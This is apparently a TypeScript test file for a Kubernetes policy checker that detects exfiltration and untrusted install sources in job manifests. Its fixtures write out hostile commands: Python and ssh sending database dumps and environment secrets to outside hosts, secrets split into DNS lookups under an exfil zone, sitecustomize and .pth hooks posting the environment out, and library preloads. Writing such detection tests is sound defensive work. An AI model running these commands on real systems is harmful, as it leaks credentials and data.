/**
 * Channels out of the cluster and sources of code beyond curl and wget
 * (exfil-channels.ts, pod-dumps.ts, egress-env.ts, install-sources.ts), read
 * through collectCommandEffects as a render's containers run them.
 */
import { describe, expect, it } from 'vitest';
import type { Manifest } from '../../src/core/manifest.js';
import { collectCommandEffects, type CommandEffect } from '../../src/policy/command-effects.js';

const SPEC = ['spec', 'template', 'spec'];
const SECRET_ENV = [{ name: 'P', valueFrom: { secretKeyRef: { name: 'mongodb-admin', key: 'password' } } }];
const DUMP = { name: 'dump', image: 'mongo:4.4.29', command: ['sh', '-c', 'mongodump --uri "$URI" --archive=/dump/st2.gz --gzip'], volumeMounts: [{ name: 'dump', mountPath: '/dump' }] };

function job(containers: Array<Record<string, unknown>>, pod: Record<string, unknown> = {}): Manifest {
  return { apiVersion: 'batch/v1', kind: 'Job', metadata: { name: 'j', namespace: 'st2-prod' }, spec: { template: { spec: { containers: containers.map((c) => ({ name: 'c', image: 'busybox', ...c })), ...pod } } } };
}

function effectsOf(...resources: Manifest[]): CommandEffect[] {
  return collectCommandEffects(resources, new Map(resources.flatMap((r, i) => (r['kind'] === 'Job' ? [[i, [SPEC]] as const] : []))), 'st2-prod', new Date('2026-12-07T00:00:00Z'));
}

const sh = (script: string): Record<string, unknown> => ({ command: ['sh', '-c', script] });
const uploads = (effects: readonly CommandEffect[]): string[] => effects.flatMap((e) => (e.effect === 'upload' ? [`${e.program} ${e.payload} ${e.destination}${e.internal ? ' (internal)' : ''}`] : []));

describe('sends beyond curl and wget', () => {
  it.each([
    ['python urllib posting a dump another container wrote', [{ ...sh(`python3 -c "import urllib.request; urllib.request.urlopen(urllib.request.Request('https://dumps.partner.io/up', data=open('/out/st2.gz','rb').read()))"`), volumeMounts: [{ name: 'dump', mountPath: '/out' }] }], ['python3 store-dump dumps.partner.io']],
    ['ssh reading a dump another container wrote', [{ ...sh(`ssh -o StrictHostKeyChecking=no -p 2222 backup@203.0.113.50 'cat > /srv/st2.gz' < /dump/st2.gz`), volumeMounts: [{ name: 'dump', mountPath: '/dump' }] }], ['ssh store-dump 203.0.113.50']],
    ['python posting a secret variable', [{ ...sh(`python3 -c "import requests; requests.post('https://hooks.example.io/x', data='$P')"`), env: SECRET_ENV }], ['python3 secret hooks.example.io']],
    ['python posting the whole environment', [{ command: ['python3', '-c', "import json,os,urllib.request; urllib.request.urlopen('https://c.example.io', data=json.dumps(dict(os.environ)).encode())"], env: SECRET_ENV }], ['python3 secret c.example.io']],
    ['a secret cut into DNS labels under an outside zone', [{ ...sh(`for c in $(printf '%s' "$P" | od -An -tx1 | tr -d ' \\n'); do nslookup "$c.x.exfil-zone.net" || true; done`), env: SECRET_ENV }], ['nslookup secret x.exfil-zone.net']],
    ['dig of ${part}.zone', [{ ...sh(`part=$(echo "$P" | base32); dig +short "\${part}.t.example.org"`), env: SECRET_ENV }], ['dig secret t.example.org']],
  ] as const)('%s', (_name, containers, expected) => {
    const pod = { initContainers: [DUMP], volumes: [{ name: 'dump', emptyDir: {} }] };
    expect(uploads(effectsOf(job([...containers], pod)))).toEqual(expected);
  });

  it.each([
    ['python reading a health URL', [{ ...sh(`python3 -c "import urllib.request; print(urllib.request.urlopen('https://status.example.io').read())"`), env: SECRET_ENV }], []],
    ['ssh running a remote command, nothing on stdin', [sh('ssh backup@203.0.113.50 uptime')], []],
    ['ssh sending a file no container dumped', [{ ...sh('ssh backup@203.0.113.50 "cat > x" < /dump/notes.txt'), volumeMounts: [{ name: 'other', mountPath: '/dump' }] }], []],
    ['a lookup of a name written out', [{ ...sh('until nslookup mongodb-0.mongodb; do sleep 2; done; echo "$P" | sha256sum'), env: SECRET_ENV }], []],
    ['a lookup under the cluster domain', [{ ...sh('nslookup "$HOSTNAME.mongodb.st2-prod.svc.cluster.local"; echo "$P" > /tmp/p'), env: SECRET_ENV }], []],
    ['a lookup built at run time in a script that reads no secret', [sh('nslookup "$HOSTNAME.example.org"')], []],
    ['python posting a dump to a Service in the cluster', [{ ...sh(`python3 -c "import requests; requests.put('http://minio:9000/b/st2.gz', data=open('/dump/st2.gz','rb'))"`), volumeMounts: [{ name: 'dump', mountPath: '/dump' }] }], ['python3 store-dump minio (internal)']],
  ] as const)('%s: %j', (_name, containers, expected) => {
    const pod = { initContainers: [DUMP], volumes: [{ name: 'dump', emptyDir: {} }, { name: 'other', emptyDir: {} }] };
    expect(uploads(effectsOf(job([...containers], pod)))).toEqual(expected);
  });
});

const env = (vars: Record<string, string>): Record<string, unknown> => ({ env: Object.entries(vars).map(([name, value]) => ({ name, value })) });
const egress = (effects: readonly CommandEffect[]): string[] =>
  effects.flatMap((e) => {
    if (e.effect === 'proxy') return [`proxy ${e.host}${e.internal ? ' internal' : ''}${e.bypasses_st2 ? ' bypassed' : ''}`];
    if (e.effect === 'install') return [`${e.source} ${e.problem} ${e.host}${e.internal ? ' internal' : ''}`];
    if (e.effect === 'python-hook') return [`hook ${e.file} ${e.host}`];
    if (e.effect === 'preload') return [`preload ${e.file}`];
    return [];
  });

describe('egress through the environment and installers', () => {
  it.each([
    ['an outside plain-HTTP proxy, no NO_PROXY', env({ HTTP_PROXY: 'http://proxy.vendor.net:3128', HTTPS_PROXY: 'http://proxy.vendor.net:3128' }), ['proxy proxy.vendor.net']],
    ['NO_PROXY naming st2 by suffix only', env({ http_proxy: 'http://proxy.vendor.net:3128', no_proxy: '.svc,.cluster.local' }), ['proxy proxy.vendor.net']],
    ['NO_PROXY naming st2api, st2auth and st2stream', env({ HTTP_PROXY: 'http://proxy.corp.net:3128', NO_PROXY: 'st2api,st2auth,st2stream,.svc' }), ['proxy proxy.corp.net bypassed']],
    ['an egress proxy in the cluster', env({ HTTP_PROXY: 'http://egress.st2-prod.svc:3128' }), ['proxy egress.st2-prod.svc internal']],
    ['HTTPS_PROXY alone (TLS tunnelled)', env({ HTTPS_PROXY: 'http://proxy.vendor.net:3128' }), []],
    ['pip over plain http with a trusted host', env({ PIP_INDEX_URL: 'http://pypi-mirror.example.net/simple', PIP_TRUSTED_HOST: 'pypi-mirror.example.net' }), ['pip plain-http pypi-mirror.example.net', 'pip trusted-host pypi-mirror.example.net']],
    // A replaced index over https is a fact; the policy judges it against settings.delivery.package_source_hosts only.
    ['pip over https', env({ PIP_INDEX_URL: 'https://pypi-mirror.example.net/simple' }), ['pip index pypi-mirror.example.net']],
    ['pip from PyPI itself, any case of the option', env({ PIP_index_url: 'https://pypi.org/simple', PIP_EXTRA_INDEX_URL: 'https://files.pythonhosted.org/x' }), []],
    ['pip over http to a Service in the cluster', env({ PIP_INDEX_URL: 'http://devpi:3141/root/pypi/+simple/' }), ['pip plain-http devpi internal']],
    ['st2 pack install of a branch', sh('st2 pack install https://github.com/some-user/stackstorm-ops-tools.git && st2ctl reload'), ['pack branch github.com']],
    ['st2 pack install of main by name', sh('st2 pack install https://github.com/some-user/tools.git=main'), ['pack branch github.com']],
    ['st2 pack install of a tag, a commit, the Exchange', sh('st2 pack install https://github.com/acme/tools.git=v1.2.0 git@github.com:acme/x.git=0123456789abcdef0123456789abcdef01234567 sensu'), []],
    ['pip install from a git branch and over http', sh('pip install git+https://github.com/acme/lib.git@main http://files.example.net/x-1.0.tar.gz'), ['pip branch github.com', 'pip plain-http files.example.net']],
    ['pip install of a pinned commit and a tag', sh('python3 -m pip install "lib @ git+https://github.com/acme/lib.git@0123456789abcdef0123456789abcdef01234567" git+https://github.com/acme/b.git@v2.0.1'), []],
    ['pip --trusted-host on the command line', sh('pip3 install --index-url https://m.example.net/simple --trusted-host m.example.net requests==2.32.3'), ['pip index m.example.net', 'pip trusted-host m.example.net']],
  ] as const)('%s', (_name, container, expected) => {
    expect(egress(effectsOf(job([container])))).toEqual(expected);
  });

  const hooks = (text: string, name = 'sitecustomize.py'): Manifest[] => [
    { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'hooks', namespace: 'st2-prod' }, data: { [name]: text } },
    job([{ command: ['st2api'], ...env({ PYTHONPATH: '/opt/hooks' }), volumeMounts: [{ name: 'hooks', mountPath: '/opt/hooks' }] }], { volumes: [{ name: 'hooks', configMap: { name: 'hooks' } }] }),
  ];
  it.each([
    ['a sitecustomize posting the environment out', hooks("import os, urllib.request\nurllib.request.urlopen('https://telemetry.collector.io/v1', data=str(os.environ).encode())\n"), ['hook /opt/hooks/sitecustomize.py telemetry.collector.io']],
    ['a .pth line importing a sender', hooks("import socket; socket.create_connection(('203.0.113.9', 443)).sendall(b'x')\n", 'zz.pth'), ['hook /opt/hooks/zz.pth ']],
    ['a sitecustomize setting up logging', hooks('import logging\nlogging.basicConfig(level=logging.INFO)\n'), []],
    ['a sitecustomize reporting to the cluster', hooks("import requests\nrequests.post('http://otel-collector.monitoring.svc:4318/v1/traces', json={})\n"), []],
  ] as const)('%s', (_name, resources, expected) => {
    expect(egress(effectsOf(...resources))).toEqual(expected);
  });

  const ELF = Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0xff]).toString('base64');
  const libs = (data: Record<string, string>): Manifest => ({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'libs', namespace: 'st2-prod' }, binaryData: data });
  const preloading = (vars: Record<string, string>, mounts: Array<Record<string, unknown>> = [{ name: 'libs', mountPath: '/opt/libs' }]): Manifest =>
    job([{ command: ['st2auth'], ...env(vars), volumeMounts: mounts }], { volumes: [{ name: 'libs', configMap: { name: 'libs' } }] });
  it.each([
    ['LD_PRELOAD of a library a ConfigMap ships', [libs({ 'libaudit.so': ELF }), preloading({ LD_PRELOAD: '/opt/libs/libaudit.so' })], ['preload /opt/libs/libaudit.so']],
    ['one of a colon-separated list', [libs({ 'a.so': ELF }), preloading({ LD_PRELOAD: '/usr/lib/libjemalloc.so.2:/opt/libs/a.so' })], ['preload /opt/libs/a.so']],
    ['a mounted /etc/ld.so.preload naming one', [libs({ 'ld.so.preload': Buffer.from('/opt/libs/b.so\n').toString('base64'), 'b.so': ELF }), preloading({}, [{ name: 'libs', mountPath: '/opt/libs' }, { name: 'libs', mountPath: '/etc/ld.so.preload', subPath: 'ld.so.preload' }])], ['preload /opt/libs/b.so']],
    ['jemalloc from the image', [preloading({ LD_PRELOAD: '/usr/lib/x86_64-linux-gnu/libjemalloc.so.2' }, [])], []],
    ['a ConfigMap of libraries nothing preloads', [libs({ 'libaudit.so': ELF }), preloading({})], []],
    ['a preload naming a file the ConfigMap lacks', [libs({ 'other.so': ELF }), preloading({ LD_PRELOAD: '/opt/libs/libaudit.so' })], []],
  ] as const)('native preloads: %s', (_name, resources, expected) => {
    expect(egress(effectsOf(...resources))).toEqual(expected);
  });
});
